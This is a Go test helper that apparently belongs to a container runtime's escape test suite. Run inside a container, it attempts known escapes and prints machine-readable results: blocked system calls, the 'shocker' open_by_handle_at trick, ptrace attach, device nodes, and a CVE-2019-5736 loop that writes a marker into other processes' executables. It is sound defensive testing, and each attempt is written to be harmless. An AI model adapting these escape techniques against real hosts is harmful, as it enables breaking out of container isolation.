//go:build linux

// Command attack runs inside a container and tries one escape per subcommand. It is
// built static (CGO_ENABLED=0) by the escape suite's TestMain and copied into the
// container's rootfs as /attack. test/hullrt's seccomp tests build it too, for its
// raw system call commands (sys, int80, systhread).
//
// Output is machine-readable: a one-shot attack prints exactly one line, "ok" when the
// kernel let it through or "errno=NAME" when it did not; the longer ones print
// key=value lines. Every attack is written to be harmless even when it succeeds (a
// value written back unchanged, an invalid argument after the permission check), so
// a missing defence fails a test without hurting the host it runs on.
package main

import (
	"errors"
	"fmt"
	"os"
	goruntime "runtime"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/hullproject/hull/internal/int80"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attack COMMAND [ARG...]")
		os.Exit(2)
	}
	// Go (1.25 on) keeps the cgroup's CPU limit files open to follow GOMAXPROCS to
	// them. Those descriptors would be indistinguishable from one a runtime leaked,
	// so the helper re-executes itself with that turned off first.
	if !strings.Contains(os.Getenv("GODEBUG"), "containermaxprocs=0") {
		env := append(os.Environ(), "GODEBUG=containermaxprocs=0,updatemaxprocs=0")
		err := syscall.Exec("/proc/self/exe", os.Args, env)
		fmt.Fprintln(os.Stderr, "attack: re-exec:", err)
		os.Exit(2)
	}
	args := os.Args[2:]
	switch os.Args[1] {
	case "true":
	case "sleep":
		time.Sleep(time.Hour)
	case "write":
		fmt.Println(result(write(args[0], args[1])))
	case "read":
		read(args[0])
	case "ls":
		ls(args[0])
	case "umount":
		fmt.Println(result(unix.Unmount(args[0], unix.MNT_DETACH)))
	case "syscall":
		fmt.Println(result(call(args[0], args[1:])))
	case "status":
		status()
	case "fds":
		fds(args)
	case "cwd":
		cwd()
	case "mknod":
		mknod(args)
	case "open":
		fd, err := unix.Open(args[0], unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(fd)
		}
		fmt.Println(result(err))
	case "exeattack":
		d, _ := time.ParseDuration(args[0])
		exeAttack(d)
	case "sys":
		nr, a := numbers(args)
		r, _, errno := unix.Syscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5])
		fmt.Println(ret(r, errno))
	case "int80":
		nr, a := numbers(args)
		r := int80.Syscall(nr, a[0], a[1], a[2])
		if r < 0 && r > -4096 {
			fmt.Println(ret(0, syscall.Errno(-r)))
		} else {
			fmt.Println(ret(uintptr(r), 0))
		}
	case "systhread":
		sysThread(args)
	default:
		fmt.Fprintln(os.Stderr, "attack: unknown command", os.Args[1])
		os.Exit(2)
	}
}

// numbers parses "NR [ARG...]" (decimal or 0x hex, up to six arguments) for the
// raw system call commands, which the seccomp tests use to make exact calls.
func numbers(args []string) (uintptr, [6]uintptr) {
	var a [6]uintptr
	var nr uint64
	for i, s := range args {
		v, err := strconv.ParseUint(s, 0, 64)
		if err != nil || i > len(a) {
			fmt.Fprintln(os.Stderr, "attack: bad number", s)
			os.Exit(2)
		}
		if i == 0 {
			nr = v
		} else {
			a[i-1] = uintptr(v)
		}
	}
	return uintptr(nr), a
}

// ret is the one-line outcome of a raw system call: "ret=N" or "errno=NAME".
func ret(r uintptr, errno syscall.Errno) string {
	if errno != 0 {
		return result(errno)
	}
	return "ret=" + strconv.FormatUint(uint64(r), 10)
}

// sysThread makes a raw system call on a thread of its own, so that a seccomp
// action that kills only the calling thread can be told from one that kills the
// process: it prints the call's outcome, or "thread=killed" once the thread is gone
// from /proc/self/task, and then "process=alive".
func sysThread(args []string) {
	nr, a := numbers(args)
	// The main goroutine keeps the main thread, so the call runs on another: a
	// killed thread group leader would linger as a zombie until the process ends.
	goruntime.LockOSThread()
	tid := make(chan int, 1)
	done := make(chan string, 1)
	go func() {
		// Locked and never unlocked: this goroutine's thread is the caller, and
		// the Go runtime will not reuse it whatever happens to it.
		goruntime.LockOSThread()
		tid <- unix.Gettid()
		r, _, errno := unix.Syscall6(nr, a[0], a[1], a[2], a[3], a[4], a[5])
		done <- ret(r, errno)
	}()
	task := "/proc/self/task/" + strconv.Itoa(<-tid)
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		select {
		case r := <-done:
			fmt.Println(r)
		default:
			if _, err := os.Stat(task); err != nil {
				fmt.Println("thread=killed")
			} else if time.Now().Before(deadline) {
				continue
			} else {
				fmt.Println("thread=hung")
			}
		}
		break
	}
	fmt.Println("process=alive")
}

// result is the one-line outcome of an attack.
func result(err error) string {
	if err == nil {
		return "ok"
	}
	var errno syscall.Errno
	if errors.As(err, &errno) {
		if name := unix.ErrnoName(errno); name != "" {
			return "errno=" + name
		}
		return "errno=" + strconv.Itoa(int(errno))
	}
	return "error=" + strings.ReplaceAll(err.Error(), " ", "_")
}

func write(p, data string) error {
	fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	_, err = unix.Write(fd, []byte(data))
	return err
}

func read(p string) {
	data, err := os.ReadFile(p)
	if err != nil {
		fmt.Println(result(err))
		return
	}
	fmt.Printf("bytes=%d\n", len(data))
}

func ls(p string) {
	ents, err := os.ReadDir(p)
	if err != nil {
		fmt.Println(result(err))
		return
	}
	fmt.Printf("entries=%d\n", len(ents))
}

// call makes one system call that Docker's default profile refuses. Arguments are
// chosen so that a kernel which does let the call through still changes nothing:
// the permission checks come first, the invalid argument right after.
func call(name string, args []string) error {
	var r1 uintptr
	var errno syscall.Errno
	switch name {
	case "mount":
		return unix.Mount("none", "/tmp", "tmpfs", 0, "")
	case "unshare-user":
		// unshare(CLONE_NEWUSER) needs a single-threaded caller; the Go runtime
		// unshares in the forked child before exec, and hands its errno back.
		pid, err := syscall.ForkExec("/proc/self/exe", []string{"attack", "true"}, &syscall.ProcAttr{
			Sys: &syscall.SysProcAttr{Unshareflags: unix.CLONE_NEWUSER},
		})
		if err != nil {
			return err
		}
		var ws syscall.WaitStatus
		_, err = syscall.Wait4(pid, &ws, 0, nil)
		return err
	case "keyctl":
		_, _, errno = unix.Syscall(unix.SYS_KEYCTL, unix.KEYCTL_GET_KEYRING_ID, uintptr(int64(unix.KEY_SPEC_SESSION_KEYRING)&0xffffffff), 0)
	case "bpf":
		var attr [128]byte
		_, _, errno = unix.Syscall(unix.SYS_BPF, unix.BPF_PROG_LOAD, uintptr(unsafe.Pointer(&attr[0])), uintptr(len(attr)))
	case "open_by_handle_at":
		// The "shocker" attack: a handle for inode 2 (the root of an ext4
		// filesystem) opened relative to a descriptor on the container's root.
		root, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			return err
		}
		defer unix.Close(root)
		var h struct {
			bytes uint32
			typ   int32
			ino   uint32
			gen   uint32
		}
		h.bytes, h.typ, h.ino = 8, 1, 2
		r1, _, errno = unix.Syscall(unix.SYS_OPEN_BY_HANDLE_AT, uintptr(root), uintptr(unsafe.Pointer(&h)), unix.O_RDONLY)
		if errno == 0 {
			unix.Close(int(r1))
		}
	case "io_uring_setup":
		var params [120]byte
		// 0 entries: EINVAL right after the call is let through.
		_, _, errno = unix.Syscall(unix.SYS_IO_URING_SETUP, 0, uintptr(unsafe.Pointer(&params[0])), 0)
	case "ptrace":
		pid, _ := strconv.Atoi(args[0])
		_, _, errno = unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_ATTACH, uintptr(pid), 0, 0, 0, 0)
		if errno == 0 {
			unix.Syscall6(unix.SYS_PTRACE, unix.PTRACE_DETACH, uintptr(pid), 0, 0, 0, 0)
		}
	case "init_module":
		empty := []byte{0}
		_, _, errno = unix.Syscall(unix.SYS_INIT_MODULE, uintptr(unsafe.Pointer(&empty[0])), 0, uintptr(unsafe.Pointer(&empty[0])))
	case "finit_module":
		empty := []byte{0}
		_, _, errno = unix.Syscall(unix.SYS_FINIT_MODULE, ^uintptr(0), uintptr(unsafe.Pointer(&empty[0])), 0)
	case "delete_module":
		mod := []byte("hull_no_such_module\x00")
		_, _, errno = unix.Syscall(unix.SYS_DELETE_MODULE, uintptr(unsafe.Pointer(&mod[0])), unix.O_NONBLOCK, 0)
	case "reboot":
		// A wrong magic number: EINVAL once CAP_SYS_BOOT is granted.
		_, _, errno = unix.Syscall6(unix.SYS_REBOOT, 0x12345678, 0x12345678, unix.LINUX_REBOOT_CMD_CAD_OFF, 0, 0, 0)
	case "kexec_load":
		// An architecture no kernel has: EINVAL once CAP_SYS_BOOT is granted.
		_, _, errno = unix.Syscall6(unix.SYS_KEXEC_LOAD, 0, 0, 0, 0x7fff0000, 0, 0)
	case "clone3":
		// A NULL argument of size 0: EINVAL if the call reaches the kernel.
		_, _, errno = unix.Syscall(unix.SYS_CLONE3, 0, 0, 0)
	default:
		return fmt.Errorf("unknown syscall %s", name)
	}
	if errno != 0 {
		return errno
	}
	return nil
}

// status prints the credential lines of /proc/self/status as key=value.
func status() {
	data, err := os.ReadFile("/proc/self/status")
	if err != nil {
		fmt.Println(result(err))
		return
	}
	for _, l := range strings.Split(string(data), "\n") {
		k, v, ok := strings.Cut(l, ":")
		if !ok {
			continue
		}
		switch k {
		case "Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp":
			fmt.Printf("%s=%s\n", k, strings.Join(strings.Fields(v), " "))
		}
	}
}

// fds prints the descriptors of this process and of the given pids as
// "fd PID N TARGET", leaving out the one used to read the directory. It reads the
// directory with raw system calls: os.Open would start Go's poller, whose epoll
// and eventfd descriptors would show up in the list.
func fds(pids []string) {
	for _, pid := range append([]string{"self"}, pids...) {
		dir := "/proc/" + pid + "/fd"
		fd, err := unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			fmt.Printf("fd %s %s\n", pid, result(err))
			continue
		}
		var names []string
		buf := make([]byte, 8192)
		for {
			n, err := unix.ReadDirent(fd, buf)
			if err != nil {
				fmt.Printf("fd %s %s\n", pid, result(err))
			}
			if n <= 0 {
				break
			}
			_, _, names = syscall.ParseDirent(buf[:n], -1, names)
		}
		sort.Slice(names, func(i, j int) bool {
			a, _ := strconv.Atoi(names[i])
			b, _ := strconv.Atoi(names[j])
			return a < b
		})
		for _, n := range names {
			if pid == "self" && n == strconv.Itoa(fd) {
				continue
			}
			target, err := os.Readlink(dir + "/" + n)
			if err != nil {
				target = result(err)
			}
			fmt.Printf("fd %s %s %s\n", pid, n, target)
		}
		unix.Close(fd)
	}
}

// cwd prints the working directory and whether it lies inside this process's root:
// walking ".." from it must end at the same directory as "/".
func cwd() {
	wd, err := unix.Getwd()
	if err != nil {
		fmt.Println("cwd=" + result(err))
	} else {
		fmt.Println("cwd=" + wd)
	}
	var root unix.Stat_t
	if err := unix.Stat("/", &root); err != nil {
		fmt.Println("inside=" + result(err))
		return
	}
	fd, err := unix.Open(".", unix.O_PATH|unix.O_DIRECTORY, 0)
	if err != nil {
		fmt.Println("inside=" + result(err))
		return
	}
	for i := 0; i < 256; i++ {
		var cur, up unix.Stat_t
		unix.Fstat(fd, &cur)
		next, err := unix.Openat(fd, "..", unix.O_PATH|unix.O_DIRECTORY, 0)
		if err != nil {
			fmt.Println("inside=" + result(err))
			return
		}
		unix.Fstat(next, &up)
		unix.Close(fd)
		fd = next
		if up.Dev == cur.Dev && up.Ino == cur.Ino {
			// ".." of the top is itself: the top of what this process can reach.
			fmt.Printf("inside=%v\n", up.Dev == root.Dev && up.Ino == root.Ino)
			return
		}
	}
	fmt.Println("inside=false")
}

// mknod makes a node: mknod PATH b|c MAJOR MINOR.
func mknod(args []string) {
	major, _ := strconv.Atoi(args[2])
	minor, _ := strconv.Atoi(args[3])
	mode := uint32(unix.S_IFCHR)
	if args[1] == "b" {
		mode = unix.S_IFBLK
	}
	fmt.Println(result(unix.Mknod(args[0], mode|0o600, int(unix.Mkdev(uint32(major), uint32(minor))))))
}

// exeAttack is CVE-2019-5736: for d, it opens /proc/PID/exe of every process it can
// see for writing, directly and by reopening an O_PATH descriptor through
// /proc/self/fd, and writes a marker through every descriptor it gets. O_PATH
// descriptors of foreign binaries are kept and retried, since a binary that is busy
// while its process runs becomes writable the moment the process exits or execs.
//
// It prints visible= (processes whose exe it could not read: a runtime still holding
// capabilities), seen= (processes whose exe was not the container's own binary, i.e. a
// runtime caught in the container), opened= and written= counts, and one
// "wrote TARGET" line per successful write.
func exeAttack(d time.Duration) {
	self, _ := os.Readlink("/proc/self/exe")
	ownBinaries := map[string]bool{self: true, "/bin/busybox": true}
	seen := map[string]bool{}
	visible := map[string]bool{}
	kept := map[[2]uint64]int{} // dev, ino -> O_PATH fd
	opened, written := 0, 0
	wrote := map[string]bool{}
	marker := []byte("HULL-ESCAPE-MARKER")
	try := func(fd int, label string) {
		path := "/proc/self/fd/" + strconv.Itoa(fd)
		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			return
		}
		opened++
		if _, err := unix.Pwrite(w, marker, 0); err == nil {
			written++
			wrote[label] = true
		}
		unix.Close(w)
	}
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid := e.Name()
			if pid[0] < '0' || pid[0] > '9' {
				continue
			}
			exe := "/proc/" + pid + "/exe"
			link, err := os.Readlink(exe)
			if err != nil {
				// Not ours to look at (yet): a runtime process that still holds
				// capabilities this one lacks. Its name is public.
				comm, _ := os.ReadFile("/proc/" + pid + "/comm")
				visible[pid+" "+strings.TrimSpace(string(comm))] = true
				continue
			}
			if ownBinaries[link] {
				continue
			}
			seen[pid+" "+link] = true
			if w, err := unix.Open(exe, unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
				opened++
				if _, err := unix.Pwrite(w, marker, 0); err == nil {
					written++
					wrote[link] = true
				}
				unix.Close(w)
			}
			p, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
			if err != nil {
				continue
			}
			var st unix.Stat_t
			if unix.Fstat(p, &st) != nil {
				unix.Close(p)
				continue
			}
			key := [2]uint64{st.Dev, st.Ino}
			if _, ok := kept[key]; ok || len(kept) >= 256 {
				unix.Close(p)
				continue
			}
			kept[key] = p
			try(p, link)
		}
		for _, p := range kept {
			target, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(p))
			try(p, target)
		}
	}
	names := make([]string, 0, len(seen))
	for s := range seen {
		names = append(names, s)
	}
	sort.Strings(names)
	fmt.Printf("visible=%d\nseen=%d\nopened=%d\nwritten=%d\n", len(visible), len(seen), opened, written)
	for _, s := range names {
		fmt.Println("saw " + s)
	}
	for w := range wrote {
		fmt.Println("wrote " + w)
	}
}
